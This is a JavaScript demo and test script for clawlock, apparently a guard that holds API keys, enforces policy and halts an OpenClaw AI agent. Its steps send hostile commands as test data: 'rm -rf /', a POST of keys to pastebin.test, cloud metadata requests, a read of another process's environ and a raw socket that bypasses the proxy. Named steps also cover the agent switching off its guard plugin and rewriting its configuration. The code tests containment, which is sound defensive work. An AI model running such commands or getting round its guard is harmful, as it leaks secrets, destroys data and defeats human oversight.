// The steps of the story, in their order. Each gets the world (`w`) and the means to tell what happens (`tell`).
import fs from "node:fs";
import path from "node:path";
import { decide } from "../decide-client.mjs";
import { replaceFile } from "./clawlock.mjs";
import { ownTools, rewriteConfiguration, secondOpenClaw, switchOff, withoutPlugin } from "./guard.mjs";
import { PLACEHOLDER_KEY, shell, started, streamedTurn, tool, turn } from "./openclaw.mjs";
import { environment, family } from "./proc.mjs";
import { alive } from "./processes.mjs";
import { check, seconds } from "./report.mjs";
import { filesWith } from "./upstreams.mjs";
import { until } from "./wait.mjs";

const GATES_WITHIN_MS = 30_000;
const CHANGE_WITHIN_MS = 5_000;
const MODEL_COOLDOWN_MS = 150_000;
// What the design promises everywhere, a busy machine included; what was measured is printed. Under 100 ms is usual.
const LIMIT_NEW_POLICY_MS = 1_000;
const LIMIT_STREAM_CLOSED_MS = 2_000;

const quoted = (text) => `'${text.replaceAll("'", `'\\''`)}'`;

/** One request as a command for the agent's shell. */
function request(w, method, url, body) {
  if (!w.curl) return [quoted(w.python), quoted(path.join(w.demo, "lib/fetch.py")), method, quoted(url), ...(body ? [quoted(body)] : [])].join(" ");
  const data = body ? `-H 'content-type: application/json' -d ${quoted(body)} ` : "";
  return `curl -sSN -X ${method} ${data}-w '\\nSTATUS %{http_code} %{http_connect}\\n' ${quoted(url)}`;
}

/** The same, sent from the agent's shell; tells what came back and by which rule, and returns {status, text}. */
async function send(w, tell, { method = "GET", url, body, command, gate, wanted }) {
  const line = command ?? request(w, method, url, body);
  tell.sent(line);
  const since = w.decisions.mark();
  const text = await shell(w.agent, line);
  tell.got(text);
  const record = await w.decisions.find(`the decision on ${url}`, since, (r) => r.gate === gate && wanted(r.action, r.outcome));
  tell.rule(record);
  return { text, status: Number(/STATUS (\d+)/.exec(text)?.[1]), record };
}

const operation = (name) => (action) => action.type === "http" && action.operation === `payments.${name}`;
const payments = (w, path) => `${w.payments.url}${path}`;

async function ask(w, tell, name, args) {
  tell.sent(`POST /v1/decide ${JSON.stringify({ tool: name, args })}`);
  const since = w.decisions.mark();
  const answer = await decide(w.ready.decide, name, args);
  tell.got(answer);
  const record = await w.decisions.find(`the decision on ${name}`, since, (r) => r.action.tool === name);
  tell.rule(record);
  return { answer, record };
}

async function start(w, tell) {
  tell.sent("clawlock dev -- node openclaw.mjs gateway run");
  await w.start();
  w.ready = await until("the gates", GATES_WITHIN_MS, () => alive(w.dev) && w.events().find((event) => event.event === "ready"));
  tell.got(`both gates serve; agent ${w.ready.agent}, policies ${w.ready.policies.join(" ")}`);
  tell.note(`Landlock confines: ${w.ready.confined}`);
  w.ready.unconfined.forEach((text) => tell.note(`not confined: ${text}`));
  await started(w.agent, w.dev);
  tell.got(`OpenClaw serves on ${w.agent.url}`);
}

/** Checks every process of the agent; returns how many there are. Clawlock itself, which holds the keys, is not one. */
function noKeyInEnvironments(w) {
  const [, ...agents] = family(w.dev.pid);
  check(agents.length > 0, "the agent's processes are found below clawlock");
  for (const { pid } of agents) {
    const values = Object.values(environment(pid)).join("\n");
    check(!Object.values(w.keys).some((key) => values.includes(key)), `no key in the environment of process ${pid}`);
  }
  return agents.length;
}

async function modelCall(w, tell) {
  const since = w.decisions.mark();
  const arrived = w.model.seen.mark();
  tell.sent("a user's message; the model's answer is held back after its first part");
  const pieces = [];
  for await (const piece of streamedTurn(w.agent, "HOLD")) {
    // The rest is sent only now: had anything on the way waited for the end, this line would never be reached.
    if (pieces.length === 0) w.model.send("release");
    pieces.push(piece);
  }
  tell.got(pieces.join("|"));
  check(pieces.join("") === "first part, second part, last part", "the whole answer arrives", pieces);
  const record = await w.decisions.find("the model call", since, (r) => r.gate === "gateway" && r.action.upstream === "model");
  tell.rule(record);
  check(record.outcome.verdict === "allow" && record.outcome.rule === "model", "rule model allows it", record.outcome);

  const calls = arrived();
  check(calls.length > 0 && calls.every((call) => call.headers.authorization === `Bearer ${w.keys.model}`), "the model server gets the real key");
  check(!JSON.stringify(calls.map((call) => call.headers)).includes(PLACEHOLDER_KEY), "the placeholder is stripped on the way");
  const processes = noKeyInEnvironments(w);
  check(fs.readFileSync(w.agent.config, "utf8").includes(PLACEHOLDER_KEY), "the agent's configuration has the placeholder");
  tell.proof(`real key at the model server; only the placeholder with the agent (${processes} processes and its configuration)`);
}

async function decideAllowed(w, tell) {
  const { answer, record } = await ask(w, tell, "exec", { command: "ls -l" });
  check(answer.decision === "allow" && record.outcome.rule === "shell", "rule shell allows it", answer);
}

async function decideBlocked(w, tell) {
  const { answer, record } = await ask(w, tell, "exec", { command: "rm -rf /" });
  check(answer.decision === "deny" && answer.rule === "no-deletion", "the answer names rule no-deletion", answer);
  check(record.outcome.rule === "no-deletion", "so does the log", record.outcome);
}

async function allowedOperation(w, tell) {
  const arrived = w.payments.seen.mark();
  const list = await send(w, tell, { url: payments(w, "/v1/charges"), gate: "gateway", wanted: operation("list_charges") });
  check(list.status === 200 && list.text.includes("ch_1"), "the charges come back", list.text);
  check(list.record.outcome.rule === "reading", "by rule reading", list.record.outcome);
  const body = JSON.stringify({ charge: "ch_1", amount: 900 });
  const refund = await send(w, tell, { method: "POST", url: payments(w, "/v1/refunds"), body, gate: "gateway", wanted: operation("create_refund") });
  check(refund.status === 200 && refund.text.includes('"succeeded"'), "the refund succeeds", refund.text);
  check(refund.record.outcome.rule === "refund", "by rule refund", refund.record.outcome);
  const calls = arrived();
  check(calls.length === 2 && calls.every((call) => call.headers.authorization === `Bearer ${w.keys.payments}`), "both carry the key", calls.length);
  tell.proof("the payment service got its key on both; the command had none");
}

async function blockedOperation(w, tell) {
  const arrived = w.payments.seen.mark();
  const body = JSON.stringify({ charge: "ch_1", amount: 90_000 });
  const refund = await send(w, tell, { method: "POST", url: payments(w, "/v1/refunds"), body, gate: "agent", wanted: operation("create_refund") });
  check(refund.status === 403, "it is answered with 403", refund.text);
  const problem = JSON.parse(refund.text.slice(0, refund.text.lastIndexOf("STATUS")));
  check(problem.rule === "large-refund" && problem.code === "TierBlock", "the problem document names the rule", problem);
  const removal = await send(w, tell, { method: "DELETE", url: payments(w, "/v1/charges/ch_1"), gate: "agent", wanted: operation("delete_charge") });
  check(removal.status === 403 && removal.text.includes("nothing-is-deleted"), "the tenant's guardrail refuses", removal.text);
  check(arrived().length === 0, "nothing reached the payment service", arrived());
  tell.proof("nothing of it reached the payment service");
}

async function unknownHost(w, tell) {
  const target = "https://pastebin.test/upload";
  const answer = await send(w, tell, { method: "POST", url: target, body: '{"keys":"all"}', gate: "agent", wanted: (_, outcome) => outcome.code === "UnknownUpstream" });
  check(answer.text.includes("403"), "the agent sees a refusal", answer.text);
  // In the clear there is no tunnel to refuse, so the problem document itself comes back.
  const metadata = "http://169.254.169.254/latest/meta-data/";
  const clear = await send(w, tell, { url: metadata, gate: "agent", wanted: (action) => action.target?.includes("169.254.169.254") });
  check(clear.status === 403 && clear.record.outcome.verdict === "deny", "the cloud's metadata service is refused", clear.text);
}

async function nodeFetch(w, tell) {
  const arrived = w.payments.seen.mark();
  const script = (url) => `fetch("${url}").then(async (r) => console.log("STATUS " + r.status, await r.text()), (e) => { for (; e; e = e.cause) console.log(e.message); })`;
  const command = (url) => `${quoted(w.node)} -e ${quoted(script(url))}`;
  const url = payments(w, "/v1/charges");
  const good = await send(w, tell, { url, command: command(url), gate: "gateway", wanted: operation("list_charges") });
  check(good.status === 200 && good.text.includes("ch_1"), "Node's fetch gets the charges", good.text);
  check(arrived().every((call) => call.headers.authorization === `Bearer ${w.keys.payments}`), "with the key");
  const elsewhere = "https://pastebin.test/";
  const bad = await send(w, tell, { url: elsewhere, command: command(elsewhere), gate: "agent", wanted: (_, outcome) => outcome.code === "UnknownUpstream" });
  check(bad.status !== 200, "another host is refused", bad.text);
}

async function webFetch(w, tell) {
  const url = payments(w, "/v1/charges");
  tell.sent(`web_fetch ${url}`);
  const since = w.decisions.mark();
  const text = await tool(w.agent, "web_fetch", { url });
  tell.got(afterNotice(text));
  const record = await w.decisions.find("web_fetch", since, (r) => r.gate === "gateway" && operation("list_charges")(r.action));
  tell.rule(record);
  check(text.includes("ch_1") && record.outcome.verdict === "allow", "web_fetch gets the charges", text);

  const elsewhere = "https://pastebin.test/page";
  tell.sent(`web_fetch ${elsewhere}`);
  const sinceThen = w.decisions.mark();
  const refused = await tool(w.agent, "web_fetch", { url: elsewhere });
  tell.got(afterNotice(refused));
  tell.rule(await w.decisions.find("its refusal", sinceThen, (r) => r.outcome.code === "UnknownUpstream"));
  check(refused.includes('"error"'), "web_fetch of another host fails", refused);
}

/** OpenClaw wraps what comes from outside in a long notice; the reader wants what follows it. */
const afterNotice = (text) => text.slice(text.lastIndexOf("---\\n") + 1).replace(/^--\\n/, "");

async function npmInstall(w, tell) {
  const name = "clawlock-demo-greeting";
  const install = `PATH=${quoted(path.dirname(w.node))}:$PATH npm install --prefix package --no-audit --no-fund --no-update-notifier --registry ${w.registry.url} ${name}`;
  const command = `mkdir -p package && ${install} && cd package && ${quoted(w.node)} -p ${quoted(`require("${name}")`)}`;
  const url = w.registry.url;
  const result = await send(w, tell, { url, command, gate: "gateway", wanted: (action) => action.upstream === "registry" });
  check(result.text.includes("greetings from the registry"), "the package is installed and runs", result.text);
  check(result.record.outcome.rule === "packages", "by rule packages", result.record.outcome);
  tell.proof(w.registry.seen.all().map((entry) => entry.url).join(" "));
}

/** Past the proxy: what the kernel closes, and what is left where it closes nothing. */
async function around(w, tell) {
  const arrived = w.payments.seen.mark();
  const fenced = !w.ready.confined.startsWith("nothing");
  const dial = `require("net").connect(${w.payments.port}, "127.0.0.1").on("connect", () => { console.log("connected"); process.exit(); }).on("error", (e) => console.log(e.code))`;
  const command = `${quoted(w.node)} -e ${quoted(dial)}`;
  tell.sent(command);
  const dialled = (await shell(w.agent, command)).trim();
  tell.got(dialled);
  const peek = `cat /proc/${w.dev.pid}/environ > /dev/null && echo readable || echo refused`;
  tell.sent(peek);
  const peeked = (await shell(w.agent, peek)).trim();
  tell.got(peeked);
  if (fenced) {
    check(dialled === "EACCES", "the kernel refuses the connection", dialled);
    if (process.getuid() === 0) tell.note("this demo runs as root, from whom no variable is kept; clawlock said so at its start");
    else check(peeked.endsWith("refused"), "the kernel keeps clawlock's variables from the agent", peeked);
  } else {
    tell.note("this kernel confines nothing: here only the upstream's own check of the key stands in the way");
  }
  check(arrived().length === 0, "nothing reached the payment service", arrived());
}

/** Asks about a tool in a tight loop until the answer is the wanted one; returns it with the time since the change. */
async function untilDecided(w, name, change, wanted) {
  const before = performance.now();
  change();
  return until("the new policy", CHANGE_WITHIN_MS, async () => {
    const answer = await decide(w.ready.decide, name, { path: "/workspace/notes" });
    return wanted(answer) && { answer, ms: performance.now() - before };
  });
}

async function editRule(w, tell) {
  const opened = w.payments.seen.mark("stream-open");
  const closed = w.payments.seen.mark("stream-closed");
  const stream = request(w, "GET", payments(w, "/v1/events"));
  tell.sent(`${stream}   (in the background: an endless stream of events)`);
  await shell(w.agent, `${stream} > events.txt 2>&1; echo "ended with $?" > ended.txt`, { background: true });
  await until("the stream's first event", CHANGE_WITHIN_MS, () => opened().length === 1 && read(w, "events.txt").includes("event"));

  const original = fs.readFileSync(w.policyFile, "utf8");
  try {
    await tightened(w, tell, original, closed);
  } finally {
    // Whatever happened above, the steps that follow are told under the policy that they know.
    const back = await untilDecided(w, "read", () => replaceFile(w.policyFile, original), (a) => a.decision === "allow");
    tell.note(`edit taken back: allowed again after ${seconds(back.ms)}`);
  }
}

async function tightened(w, tell, original, closed) {
  const edited = original.replaceAll("tier: Auto    # the story edits this line", "tier: Block    # edited");
  check(edited !== original, "the policy has the lines to edit");
  tell.sent("edit openclaw.yaml: tier Auto becomes Block in rules reading and looking");
  const at = Date.now();
  const { answer, ms } = await untilDecided(w, "read", () => replaceFile(w.policyFile, edited), (a) => a.decision === "deny");
  tell.got(answer);
  check(answer.rule === "looking", "the new rule is named", answer);
  const [end] = await until("the end of the open stream", CHANGE_WITHIN_MS, () => closed().length > 0 && closed());
  const ended = await until("the agent's view of it", CHANGE_WITHIN_MS, () => read(w, "ended.txt"));
  tell.proof(`edit to first new verdict ${seconds(ms)}; the open stream was closed after ${seconds(end.at - at)} (the agent's client ${ended.trim()})`);
  check(ms < LIMIT_NEW_POLICY_MS, `the edit holds within ${LIMIT_NEW_POLICY_MS} ms`, ms);
  check(end.at - at < LIMIT_STREAM_CLOSED_MS, `the stream is closed within ${LIMIT_STREAM_CLOSED_MS} ms`, end.at - at);

  const next = await send(w, tell, { url: payments(w, "/v1/charges"), gate: "agent", wanted: operation("list_charges") });
  check(next.status === 403 && next.record.outcome.rule === "reading", "the next request is refused by the edited rule", next.text);
}

const read = (w, name) => {
  const file = path.join(w.agent.workspace, name);
  return fs.existsSync(file) ? fs.readFileSync(file, "utf8") : "";
};

async function brokenEdit(w, tell) {
  const original = fs.readFileSync(w.policyFile, "utf8");
  const broken = original.replace("- name: shell\n    match: {tools: [exec]}\n    tier: Auto", "- name: shell\n    match: {tools: [exec]}\n    tier: Sometimes");
  check(broken !== original, "the policy has the lines to break");
  try {
    tell.sent("edit openclaw.yaml: tier Auto becomes Sometimes in rule shell");
    replaceFile(w.policyFile, broken);
    const problem = await until("a word on the broken edit", CHANGE_WITHIN_MS, () => w.events().findLast((e) => e.problems?.length)?.problems[0]);
    tell.got(`${path.basename(problem.file)}:${problem.line}:${problem.column}: ${problem.message}`);
    check(problem.file.endsWith("openclaw.yaml") && problem.line === 1 + broken.split("\n").findIndex((line) => line.includes("Sometimes")), "it names file and line", problem);
    const { answer } = await ask(w, tell, "exec", { command: "ls -l" });
    check(answer.decision === "allow" && answer.rule === "shell", "the last good version holds", answer);
  } finally {
    replaceFile(w.policyFile, original);
  }
  await until("the end of the problem", CHANGE_WITHIN_MS, () => w.events().findLast((e) => e.problems)?.problems.length === 0);
}

async function halt(w, tell) {
  const command = request(w, "GET", payments(w, "/v1/charges"));
  tell.sent(`${command}   (again and again, in the background)`);
  await shell(w.agent, `while [ ! -e stop ]; do ${command} >> loop.txt 2>&1; sleep 0.1; done`, { background: true });
  await until("an answer in the loop", CHANGE_WITHIN_MS, () => read(w, "loop.txt").includes("STATUS 200"));
  tell.sent("AgentHalt inc-42 put into the folder");
  const drop = () => fs.copyFileSync(path.join(w.demo, "policies/halt.yaml"), w.haltFile);
  const { answer, ms } = await untilDecided(w, "read", drop, (a) => a.decision === "deny");
  tell.got(answer);
  check(answer.code === "Halted" && JSON.stringify(answer).includes("INC-42"), "the answer has the halt's reason", answer);
  const refused = await until("the loop's refusal", CHANGE_WITHIN_MS, () => /^\{.*INC-42.*\}$/m.exec(read(w, "loop.txt")));
  tell.got(refused[0]);
  const [arrived, modelled, since] = [w.payments.seen.mark(), w.model.seen.mark(), w.decisions.mark()];
  tell.sent("a user's message");
  tell.got(await turn(w.agent, "HELLO"));
  const record = await w.decisions.find("the refused model call", since, (r) => r.action.upstream === "model");
  tell.rule(record);
  check(record.outcome.code === "Halted", "the model call is refused", record.outcome);
  check(arrived().length === 0 && modelled().length === 0, "no upstream sees anything while the agent is halted");
  tell.proof(`halted ${seconds(ms)} after the file appeared; nothing reached any upstream since`);
}

async function resume(w, tell) {
  const loop = read(w, "loop.txt").length;
  tell.sent("AgentHalt inc-42 taken out of the folder");
  const { ms } = await untilDecided(w, "read", () => fs.rmSync(w.haltFile, { force: true }), (a) => a.decision === "allow");
  await until("a good answer in the loop", CHANGE_WITHIN_MS, () => read(w, "loop.txt").slice(loop).includes("STATUS 200"));
  fs.writeFileSync(path.join(w.agent.workspace, "stop"), "");
  tell.proof(`resumed ${seconds(ms)} after the file was gone; the loop in the agent's shell went on by itself`);
  tell.sent("a user's message");
  tell.note("OpenClaw itself leaves a model alone for up to a minute after a 403, so this may take a while");
  const hello = async () => (await turn(w.agent, "HELLO")) === "hello from the scripted model";
  await until("an answer of the agent", MODEL_COOLDOWN_MS, hello, 1_000);
  tell.got("hello from the scripted model");
}

async function canary(w, tell) {
  tell.sent("search for both keys, plain and in base64, in all that this run has written or shown");
  const holders = filesWith(w.run, Object.values(w.keys));
  tell.got(holders.join(" "));
  for (const folder of w.alsoWritten()) {
    check(filesWith(folder, Object.values(w.keys)).length === 0, `no key below ${folder}`, filesWith(folder, Object.values(w.keys)));
  }
  // The upstreams' own records must be among them: a search that finds nothing there proves nothing elsewhere.
  check(holders.join(" ") === w.mayHoldKeys.join(" "), `only ${w.mayHoldKeys.join(", ")} hold a key`, holders);
  const shown = w.report.everything();
  check(!Object.values(w.keys).some((key) => shown.includes(key)), "no key was shown in this story");
  noKeyInEnvironments(w);
  tell.proof("each key is with its upstream, and where the demo gave it to clawlock; nowhere else");
}

/** Title, what happens, and whether the story cannot go on without it. */
export const STEPS = [
  ["OpenClaw starts under clawlock", start, true],
  ["a streamed model call, with a key that the agent never had", modelCall],
  ["decide API: an allowed exec", decideAllowed],
  ["decide API: a blocked exec", decideBlocked],
  ["OpenClaw's own tools: allowed and blocked", ownTools],
  ["OpenClaw's shell, curl: allowed operations", allowedOperation],
  ["OpenClaw's shell, curl: blocked operations", blockedOperation],
  ["OpenClaw's shell, curl: a host that is no upstream", unknownHost],
  ["OpenClaw's shell, Node's fetch", nodeFetch],
  ["OpenClaw's web_fetch", webFetch],
  ["OpenClaw's shell, npm install", npmInstall],
  ["OpenClaw's shell, past the proxy", around],
  ["a rule is edited under an open stream", editRule],
  ["a broken edit keeps the last good policy", brokenEdit],
  ["the agent is halted", halt],
  ["the agent is resumed", resume],
  ["the agent switches the plugin off", switchOff],
  ["the agent rewrites its configuration", rewriteConfiguration],
  ["OpenClaw without its plugin", withoutPlugin],
  ["a second OpenClaw that asks nobody", secondOpenClaw],
  ["where the keys are", canary],
];
